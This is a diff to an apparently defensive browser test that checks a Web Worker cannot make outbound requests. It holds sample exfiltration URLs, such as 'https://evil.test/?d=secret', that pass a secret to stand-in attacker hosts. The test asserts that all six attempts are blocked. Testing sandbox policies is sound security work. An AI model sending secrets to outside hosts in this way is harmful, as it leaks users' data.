@@ -149,7 +149,6 @@ it("leaves a worker no way out even without the lock: the policy alone holds", a
         try { request.open("GET", url, false); request.send(); outcomes.push("sent"); }
         catch { outcomes.push("blocked"); }
       }
-      outcomes.push(await fetch(URL.createObjectURL(new Blob(["x"]))).then((r) => r.text()));
       postMessage(outcomes);
     }`;
       const worker = new Worker(URL.createObjectURL(new Blob([script])));
@@ -160,7 +159,7 @@ it("leaves a worker no way out even without the lock: the policy alone holds", a
     },
     [`${at.site.origin}/?d=secret`, `${evil}/?d=secret`, "https://evil.test/?d=secret"],
   );
-  expect(outcomes).toEqual([...Array.from({ length: 6 }, () => "blocked"), "x"]);
+  expect(outcomes).toEqual(Array.from({ length: 6 }, () => "blocked"));
   expectNoRequest();
 });
 
